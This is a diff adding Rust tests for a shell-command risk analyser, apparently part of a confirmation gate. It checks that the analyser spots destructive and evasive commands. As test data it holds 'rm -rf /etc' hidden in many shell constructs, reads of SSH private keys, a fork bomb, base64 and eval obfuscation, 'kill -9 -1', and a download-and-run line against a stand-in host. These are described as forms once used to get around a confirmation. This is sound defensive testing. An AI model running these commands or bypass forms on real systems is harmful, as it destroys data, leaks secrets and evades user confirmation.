@@ -556,3 +556,179 @@ fn growth_that_doubles_ends() {
     quiet("for a in 1 2 3; do for b in 4 5 6; do x=$a$b; echo $x; done; done");
     quiet(&format!("{} ls", "a=b;".repeat(300)));
 }
+
+/// A program that no table describes is bounded by confinement; what its words say counts all the same.
+#[test]
+fn bypass_01_wrappers_that_nobody_has_heard_of() {
+    check("frobnicate --in a.csv", "frobnicate, read /w/a.csv, write /w/a.csv, ExecuteCode, Indefinite");
+    finds("frobnicate rm -rf /", "rm, delete / and below");
+    finds("frobnicate -n 3 -- git push --force", "git push");
+    finds("frobnicate ~/.ssh/id_rsa", "read /home/me/.ssh/id_rsa");
+    finds("frobnicate https://x.example/y", "host x.example");
+    opaque("frobnicate delete cluster");
+    opaque("frobnicate-deploy x");
+    opaque("frobnicate --cmd 'x'");
+    opaque("frobnicate 'a; b'");
+    opaque("curl https://x.example | frobnicate");
+    opaque("frobnicate /etc/x");
+    check("frobnicate --help", "frobnicate, ExecuteCode, Indefinite");
+}
+
+#[test]
+fn files_under_names_that_are_not_known() {
+    finds("cat \"$F\"", "cat, Indefinite");
+    finds("cat \"/root/.ssh/$F\"", "read /root/.ssh/*, Indefinite");
+    finds("sort x > \"$OUT\"", "Indefinite");
+    opaque("rm \"$F\"");
+    opaque("rm -rf \"$D\"/*");
+    opaque("bash \"$F\"");
+    opaque("\"$P\" x");
+}
+
+#[test]
+fn bypass_16_each_construct_has_the_same_walker() {
+    for text in [
+        "X=1 rm -rf /etc",
+        "'rm' -rf /etc",
+        "r\\m -rf /etc",
+        "ls > x; rm -rf /etc",
+        "sh -c 'rm -rf /etc'",
+        "{ rm -rf /etc; }",
+        "(rm -rf /etc)",
+        "if ls; then rm -rf /etc; fi",
+        "while ls; do rm -rf /etc; done",
+        "case x in x) rm -rf /etc;; esac",
+        "f() { rm -rf /etc; }; f",
+        "echo $(rm -rf /etc)",
+        "cat <(rm -rf /etc)",
+        "trap 'rm -rf /etc' EXIT",
+        "coproc rm -rf /etc",
+        "! rm -rf /etc",
+        "time rm -rf /etc",
+    ] {
+        finds(text, "rm, delete /etc and below");
+    }
+    quiet("X=1 ls; 'ls' x; { ls; }; (ls); if ls; then ls; fi");
+}
+
+#[test]
+fn bypass_21_deep_nesting_does_not_end_the_process() {
+    for open in ["$(", "{ ", "(", "`", "${x:-", "if ls; then ", "while ls; do ", "\"$(", "<("] {
+        opaque(&open.repeat(20_000 / open.len()));
+    }
+    quiet("echo $(echo $(echo $(ls)))");
+}
+
+#[test]
+fn bypass_23_words_are_not_split_as_texts() {
+    finds("ls;rm -rf /etc", "rm, delete /etc and below");
+    finds("ls\nrm -rf /etc", "rm, delete /etc and below");
+    finds("ls|rm -rf /etc", "rm, delete /etc and below");
+    quiet("echo 'ls;rm -rf /etc'");
+}
+
+/// Bounds count bytes, nodes, statements and operations; nothing here looks at a clock.
+#[test]
+fn bypass_25_budgets_are_counted() {
+    opaque(&"ls;".repeat(30_000));
+    opaque(&format!("ls {}", "a".repeat(70_000)));
+    opaque(&"ls | ".repeat(1_200));
+    quiet(&format!("{}ls", "ls; ".repeat(500)));
+}
+
+#[test]
+fn bypass_28_heredocs_that_cannot_be_read() {
+    opaque("cat <<'E'\nx\n");
+    opaque("cat << ");
+    finds("cat > x <<'E'\n$(rm -rf /etc)\nE\n", "write /w/x");
+    quiet("cat <<'E'\n$(rm -rf /etc)\nE\n");
+    finds("cat <<E\n$(rm -rf /etc)\nE\n", "rm, delete /etc and below");
+}
+
+/// The details of the case are not public; these are the forms in which a confirmation was gone around.
+#[test]
+fn bypass_29_crafted_commands() {
+    finds("echo \"ok\"; rm -rf /etc #", "rm, delete /etc and below");
+    finds("echo 'a'\"$(rm -rf /etc)\"", "rm, delete /etc and below");
+    finds("ls -la && { true; rm -rf /etc; }", "rm, delete /etc and below");
+    quiet("echo \"ok\" # ; rm -rf /etc");
+}
+
+#[test]
+fn what_is_written_and_then_run_is_looked_into() {
+    finds("printf 'rm -rf /etc' > x.sh; bash x.sh", "rm, delete /etc and below");
+    finds("cat > x.sh <<'E'\nrm -rf /etc\nE\nchmod +x x.sh; ./x.sh", "rm, delete /etc and below");
+    finds("echo 'rm -rf /etc' > x; . ./x", "rm, delete /etc and below");
+    opaque("curl -o x.sh https://x.example; bash x.sh");
+    finds("echo a > x.sh; echo b >> x.sh; bash x.sh", "sh, execute /w/x.sh, ExecuteCode, Indefinite");
+    quiet("echo 'ls' > x.sh; bash y.sh");
+}
+
+#[test]
+fn the_machine_is_not_used_up() {
+    finds("b() { b | b & }; b", "Exhaust");
+    finds("yes > f", "Exhaust");
+    finds("cat /dev/zero > f", "Exhaust");
+    finds("dd if=/dev/zero of=f", "Exhaust");
+    finds("while true; do ls & done", "Exhaust");
+    for harmless in [
+        "yes | head",
+        "dd if=/dev/zero of=f count=4",
+        "while true; do ls; sleep 1; done",
+        "f() { ls; }; f & wait",
+    ] {
+        assert!(!lines(harmless).contains("Exhaust"), "{harmless}");
+    }
+}
+
+#[test]
+fn disguises_and_what_is_shown() {
+    for text in [
+        "cat /usr/../etc/x",
+        "base64 f | base64 -d",
+        "rev f | rev",
+        "x=ls; eval \"$x\"",
+        "date -f /x",
+        "curl file:///x",
+    ] {
+        finds(text, "Disguise");
+    }
+    for text in ["printenv", "env", "set", "export -p", "tcpdump -i eth0"] {
+        finds(text, "Reveal");
+    }
+    for text in [
+        "cat ../x",
+        "base64 f",
+        "rev f",
+        "eval ls",
+        "date",
+        "printenv PATH",
+        "env A=1 ls",
+        "set -e",
+        "export A=1",
+    ] {
+        let found = lines(text);
+        assert!(!found.contains("Disguise") && !found.contains("Reveal"), "{text}: {found}");
+    }
+}
+
+#[test]
+fn processes() {
+    finds("kill -9 -1", "Power");
+    finds("kill 1", "Power");
+    opaque("kill $(pgrep x)");
+    opaque("ps | awk '{print $1}' | xargs kill");
+    for text in ["kill 4711", "kill -9 4711", "kill %1", "sleep 9 & kill $!"] {
+        let found = lines(text);
+        assert!(!found.contains("Power") && !found.contains('?'), "{text}: {found}");
+    }
+}
+
+/// A list of any length costs the same for each of its parts.
+#[test]
+fn long_lists_take_linear_time() {
+    for piece in ["cd x && ", "a=1 && ", "cd x; ", "f() { ls; } && ", "alias a=b && "] {
+        let text = format!("{}ls", piece.repeat(60_000 / piece.len()));
+        assert!(!super::operations(&text, &AT).is_empty());
+    }
+}
